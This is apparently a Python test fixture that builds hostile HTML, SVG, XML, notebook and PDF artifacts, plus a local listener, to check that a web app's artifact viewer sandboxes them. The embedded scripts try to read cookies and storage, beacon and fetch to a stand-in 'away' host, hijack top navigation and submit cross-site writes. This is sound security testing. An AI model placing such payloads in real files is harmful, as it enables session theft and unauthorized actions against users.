"""Artifacts that try to get out of their sandbox, and a listener that nobody may reach."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Any

from tests.web.files import NOTEBOOK, pdf

#: `__APP__` is the address of the server, `__AWAY__` that of the listener
_SCRIPT = """
const app = '__APP__', away = '__AWAY__', told = {}
const note = (name, what) => { told[name] = String(what) }
const read = (name, get) => { try { note(name, `GOT ${get()}`) } catch (e) { note(name, e.name) } }
const ask = (name, promise) =>
  promise.then((found) => note(name, `GOT ${found}`), (error) => note(name, error.name))
read('cookie', () => document.cookie)
read('storage', () => localStorage.getItem('secret'))
read('session', () => sessionStorage.length)
read('parent', () => parent.document.title)
read('top', () => top.location.href)
read('opener', () => opener.document.title)
read('frame', () => frameElement.id)
read('navigate top', () => { top.location.href = away + '/top' })
read('open', () => open(away + '/open').name)
read('database', () => indexedDB.open('x'))
read('beacon', () => navigator.sendBeacon(away + '/beacon', 'x'))
read('socket', () => { new WebSocket(away.replace('http', 'ws')).onopen = () => note('ws', 'GOT') })
read('events', () => { new EventSource(app + '/health').onopen = () => note('sse', 'GOT') })
read('worker', () => new Worker(app + '/static-files/docs.js'))
const waits = [
  ask('fetch app', fetch(app + '/ajax-api/2.0/mlflow/experiments/search?max_results=5')),
  ask('fetch opaque', fetch(app + '/health', { mode: 'no-cors' })),
  ask('write app', fetch(app + '/ajax-api/2.0/mlflow/experiments/create', {
    method: 'POST', body: '{"name": "stolen"}', headers: { 'Content-Type': 'application/json' },
  })),
  ask('fetch away', fetch(away + '/fetch', { mode: 'no-cors' })),
  ask('import', import(away + '/module.js')),
  ask('caches', new Promise((done) => done(caches.open('x'))).then((cache) => cache)),
]
for (const [tag, field, path] of [
  ['img', 'src', away + '/image'], ['img', 'src', app + '/static-files/icon.svg'],
  ['script', 'src', away + '/script.js'], ['script', 'src', app + '/static-files/docs.js'],
  ['iframe', 'src', away + '/frame'], ['iframe', 'src', app + '/docs'],
  ['object', 'data', away + '/object'], ['embed', 'src', away + '/embed'],
  ['video', 'src', away + '/video'], ['audio', 'src', app + '/health'],
]) {
  waits.push(new Promise((done) => {
    const made = document.createElement(tag)
    const name = `${tag} of ${path.startsWith(app) ? 'app' : 'away'}`
    made.onload = () => { note(name, tag === 'iframe' ? 'blocked or empty' : 'GOT'); done() }
    made.onerror = () => { note(name, 'error'); done() }
    made[field] = path
    document.body.append(made)
    if (tag === 'object' || tag === 'embed') done()
  }))
}
const sheet = document.createElement('style')
sheet.textContent = `@import url(${away}/sheet.css); body { background: url(${away}/ground) }
@font-face { font-family: f; src: url(${away}/font) } body { font-family: f }`
document.head.append(sheet)
const hint = document.createElement('link')
hint.rel = 'prefetch'
hint.href = away + '/prefetch'
document.head.append(hint)
const form = document.createElement('form')
form.action = app + '/ajax-api/2.0/mlflow/experiments/create'
form.method = 'post'
document.body.append(form)
form.submit()
parent.postMessage('hello', '*')
Promise.allSettled(waits).then(() => {
  document.getElementById('told').textContent = JSON.stringify(told)
})
"""


class Listener:
    """Accepts connections on a free port and closes them: whoever connects has got out.

    Attributes:
        url: its address.
        heard: what those who connected said first.
    """

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.heard: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.heard.append(b"")
            with connection:
                connection.settimeout(1)
                with suppress(OSError):
                    self.heard[-1] = connection.recv(1000)

    def close(self) -> None:
        # A thread that waits in accept() does not see that the socket is closed.
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@contextmanager
def run_listener() -> Iterator[Listener]:
    """A listener, until the block ends."""
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


def hostile(app: str, away: str) -> dict[str, bytes]:
    """Artifacts that try all they can, by name.

    Args:
        app: address of the server.
        away: address of the listener.
    """

    def filled(text: str) -> str:
        return text.replace("__APP__", app).replace("__AWAY__", away)

    script = filled(_SCRIPT)
    page = f"<!doctype html><title>Bad</title><body><p id=told></p><script>{script}</script></body>"
    svg = "http://www.w3.org/2000/svg"
    xhtml = "http://www.w3.org/1999/xhtml"
    hits = "document.documentElement.setAttribute('data-hit', '1'); " + filled(
        "fetch('__AWAY__/svg'); try { parent.document.title = 'hit' } catch (e) {}"
    )
    picture = (
        f'<svg xmlns="{svg}" xmlns:x="http://www.w3.org/1999/xlink" width="9" height="9"'
        f' onload="{hits}"><script>{hits}</script><image x:href="{away}/image" width="5"/>'
        f'<foreignObject><iframe xmlns="{xhtml}" src="{away}/frame"/></foreignObject>'
        f'<circle id="shape" r="4"/></svg>'
    )
    notebook: dict[str, Any] = json.loads(json.dumps(NOTEBOOK))
    notebook["cells"][1]["outputs"][1]["data"]["text/html"] = [f"<script>{hits}</script>"]
    return {
        "bad.html": page.encode(),
        "bad.svg": picture.encode(),
        "bad.xml": f'<?xml version="1.0"?><html xmlns="{xhtml}"><body id="shape">'
        f"<script>{hits}</script></body></html>".encode(),
        "bad.txt": page.encode(),
        "bad.png": page.encode(),
        "bad.ipynb": json.dumps(notebook).encode(),
        "bad.pdf": pdf("Bad", f"app.launchURL\\('{away}/pdf'\\); this.submitForm\\('{away}/f'\\);"),
        "refresh.html": f'<meta http-equiv="refresh" content="0;url={away}/refresh">Bad'.encode(),
        "leaves.html": f"<p id=told>Bad</p><script>location = '{away}/leaves'</script>".encode(),
    }
